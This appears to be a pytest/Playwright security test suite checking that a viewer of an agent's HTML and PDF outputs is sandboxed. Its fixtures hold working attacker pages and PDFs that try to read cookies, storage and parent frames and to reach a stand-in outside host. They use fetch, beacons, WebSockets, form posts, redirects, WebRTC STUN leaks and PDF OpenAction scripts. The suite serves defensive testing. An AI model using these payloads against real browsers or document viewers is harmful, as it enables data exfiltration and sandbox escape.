"""What pages and documents of an agent can do in their frames, in a real browser: nothing."""

from __future__ import annotations

import json
import socket
import threading
from collections.abc import Generator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from browsing import served, subject_of
from documents import pdf, picture
from playwright.sync_api import Browser
from trials import CASE, trial_with

pytestmark = pytest.mark.browser

_ATTACK = """<!doctype html><title>start</title>
<link rel=stylesheet href="OTHER/style"><link rel=prefetch href="OTHER/prefetch"><link rel=icon href="OTHER/icon">
<img src="OTHER/img"><iframe src="OTHER/frame"></iframe><object data="OTHER/object"></object><embed src="OTHER/embed">
<video src="OTHER/video" poster="OTHER/poster"></video><form id=f action="OTHER/form" method=post></form>
<img id=own src="pic.png"><a id=top href="OTHER/top" target=_top>x</a>
<script>
const said = {};
const tried = async (name, run) => { try { said[name] = String(await run()); } catch (error) { said[name] = "refused"; } };
(async () => {
  const api = location.href.replace(/frame[/].*/, "api/workspace");
  await tried("api", async () => (await fetch(api)).status);
  await tried("xhr", () => new Promise((done, failed) => {
    const request = new XMLHttpRequest(); request.open("GET", api); request.onload = () => done(request.status);
    request.onerror = failed; request.send();
  }));
  await tried("parent", () => parent.document.title);
  await tried("cookie", () => document.cookie);
  await tried("storage", () => localStorage.length);
  await tried("top", () => { top.location = "OTHER/topscript"; return "left"; });
  await tried("link", () => { document.getElementById("top").click(); return "clicked"; });
  await tried("window", () => String(window.open("OTHER/window")));
  await tried("fetch", async () => (await fetch("OTHER/fetch", {mode: "no-cors"})).type);
  await tried("beacon", () => navigator.sendBeacon("OTHER/beacon"));
  await tried("socket", () => new Promise((done, failed) => {
    const one = new WebSocket("OTHER/socket".replace("http", "ws")); one.onopen = done; one.onerror = failed;
  }));
  await tried("form", () => { document.getElementById("f").submit(); return "sent"; });
  await tried("worker", () => new Promise((done, failed) => {
    const one = new Worker(URL.createObjectURL(new Blob(["fetch('OTHER/worker')"]))); one.onerror = failed; setTimeout(done, 100);
  }));
  const own = document.getElementById("own");
  if (!own.complete) await new Promise((done) => { own.onload = own.onerror = done; });
  said.own = own.naturalWidth;
  document.title = JSON.stringify(said);
  parent.postMessage(JSON.stringify(said), "*");
  location.href = "OTHER/leaving?" + encodeURIComponent(location.href);
})();
</script>"""
_STILL = """<!doctype html><meta http-equiv=refresh content="0; url=OTHER/refresh"><img src="OTHER/img">
<style>@import "OTHER/css"; body { background: url(OTHER/back) }</style><p id=said>still</p>
<script>document.getElementById("said").textContent = "ran"</script>"""
_LISTEN = "void (window.heard = new Promise((hear) => addEventListener('message', (event) => hear(event.data))))"
_PLACE = """([trial, name, running]) => import(new URL("static/mediaview.js", document.baseURI)).then((module) => {
  const view = name.endsWith(".pdf") ? module.pdfView(trial, name) : module.pageFrame(trial, name);
  document.body.append(view);
  if (running) view.querySelector("button").click();
})"""


@contextmanager
def another_machine() -> Generator[tuple[str, list[str]]]:
    """A server that is not the page's, and what it was asked for."""
    seen: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            seen.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET  # noqa: N815 - as http.server calls it

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - as http.server calls it
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            yield f"http://127.0.0.1:{server.server_address[1]}", seen
        finally:
            server.shutdown()
            thread.join()


def _outputs(workspace: Path, other: str) -> dict[str, object]:
    files = {
        "running.html": _ATTACK.replace("OTHER", other).encode(),
        "still.html": _STILL.replace("OTHER", other).encode(),
        "opening.pdf": pdf(action=f"/OpenAction << /S /URI /URI ({other}/uri) >>"),
        "script.pdf": pdf(action=f'/OpenAction << /S /JavaScript /JS (app.launchURL\\("{other}/launch"\\);) >>'),
        "pic.png": picture(),
    }
    trial_with(workspace, files, arm="attacker")
    return {"iteration": 1, "case": CASE, "arm": "attacker", "repeat": 1}


def test_page_with_scripts_reaches_nothing(browser: Browser, shown_workspace: Path) -> None:
    """Scripts that somebody lets run see the trial's own picture; no API, no page around it, no window, no other machine."""
    with another_machine() as (other, seen), served(subject_of(shown_workspace)) as link:
        trial = _outputs(shown_workspace, other)
        context = browser.new_context()
        page = context.new_page()
        page.goto(link)
        page.evaluate(_LISTEN)
        page.evaluate(_PLACE, [trial, "running.html", True])
        said = json.loads(page.evaluate("heard"))
        page.wait_for_timeout(500)
        assert len(context.pages) == 1
        assert page.url.startswith(link)
        context.close()
    assert seen == []
    assert said.pop("own") == 60
    assert said.pop("window") in {"null", "refused"}
    assert said.pop("link") == "clicked"
    assert said.pop("form") in {"sent", "refused"}
    assert said.pop("beacon") in {"true", "false", "refused"}
    assert said.pop("worker") in {"undefined", "refused"}
    assert said.pop("top") in {"left", "refused"}
    assert set(said.values()) == {"refused"}


_PACKETS = """try { const one = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:PORT'}]});
one.createDataChannel('a'); one.createOffer().then((offer) => one.setLocalDescription(offer)); } catch {}"""
_WAYS = {
    "direct": "<script>CODE</script>",
    "frame": '<p>x</p><iframe srcdoc="<script>CODE</script>"></iframe>',
    "address": """<script>const f = document.createElement("iframe"); f.src = "javascript:" + `CODE`;
        document.body.append(f)</script>""",
    "shadow": """<div id=a></div><script>a.attachShadow({mode: "closed"}).innerHTML =
        `<iframe srcdoc="<script>CODE<` + `/script>"></iframe>`</script>""",
    "declared": '<div><template ShadowRootMode=closed><iframe srcdoc="<script>CODE</script>"></iframe></template></div>',
    "written": """<script>document.open(); document.write(`<template shadowroot` + `mode=closed><iframe srcdoc="<script>CODE<` +
        `/script>"></iframe></template>`)</script>""",
    "picture": '<script>location.href = "packets.svg"</script>',
}


def test_page_with_scripts_sends_no_packets(browser: Browser, shown_workspace: Path) -> None:
    """Connections between browsers, which no policy covers, cannot be had: not directly, and not in a frame made within."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as receiver, served(subject_of(shown_workspace)) as link:
        receiver.bind(("127.0.0.1", 0))
        receiver.setblocking(False)
        code = _PACKETS.replace("PORT", str(receiver.getsockname()[1]))
        files = {f"{name}.html": f"<body>{text.replace('CODE', code)}".encode() for name, text in _WAYS.items()}
        picture_code = code.replace("=>", "=&gt;")
        files["packets.svg"] = f'<svg xmlns="http://www.w3.org/2000/svg"><script>{picture_code}</script></svg>'.encode()
        trial_with(shown_workspace, files, arm="attacker")
        context = browser.new_context()
        page = context.new_page()
        page.goto(link)
        trial = {"iteration": 1, "case": CASE, "arm": "attacker", "repeat": 1}
        for name in _WAYS:
            page.evaluate(_PLACE, [trial, f"{name}.html", True])
        page.wait_for_timeout(1500)
        with pytest.raises(BlockingIOError):
            receiver.recv(1)
        # The browser does send where nothing is in the way.
        page.evaluate(f"() => {{ {code} }}")
        receiver.settimeout(30)
        assert receiver.recv(2000)
        context.close()


def test_page_without_scripts_and_documents_reach_nothing(browser: Browser, shown_workspace: Path) -> None:
    """By default no script runs, and neither a page nor a PDF leads anywhere or loads anything from elsewhere."""
    with another_machine() as (other, seen), served(subject_of(shown_workspace)) as link:
        trial = _outputs(shown_workspace, other)
        context = browser.new_context()
        page = context.new_page()
        page.goto(link)
        for name in ("still.html", "opening.pdf", "script.pdf"):
            page.evaluate(_PLACE, [trial, name, False])
        assert page.frame_locator("iframe[sandbox]").locator("#said").text_content() == "still"
        page.wait_for_timeout(1000)
        assert len(context.pages) == 1
        assert page.url.startswith(link)
        context.close()
    assert seen == []


def test_frame_is_no_page_of_its_own(shown_workspace: Path, browser: Browser) -> None:
    """A frame's address opened in a window shows nothing of the agent's."""
    with another_machine() as (other, seen), served(subject_of(shown_workspace)) as link:
        trial = _outputs(shown_workspace, other)
        context = browser.new_context()
        page = context.new_page()
        page.goto(link)
        module = "import(new URL('static/rawfile.js', document.baseURI))"
        address = page.evaluate(
            f"(trial) => {module}.then((m) => m.frameAddress(trial, 'running.html', {{running: true}}))", trial
        )
        answer = page.goto(link + address)
        assert answer is not None
        assert answer.status == 403
        context.close()
    assert seen == []


def test_other_machine_is_seen() -> None:
    """The server that stands for another machine notes what it is asked: the tests above can fail."""
    with another_machine() as (other, seen):
        with socket.create_connection(("127.0.0.1", int(other.rpartition(":")[2]))) as line:
            line.sendall(b"GET /x HTTP/1.0\r\n\r\n")
            line.recv(100)
        assert seen == ["/x"]
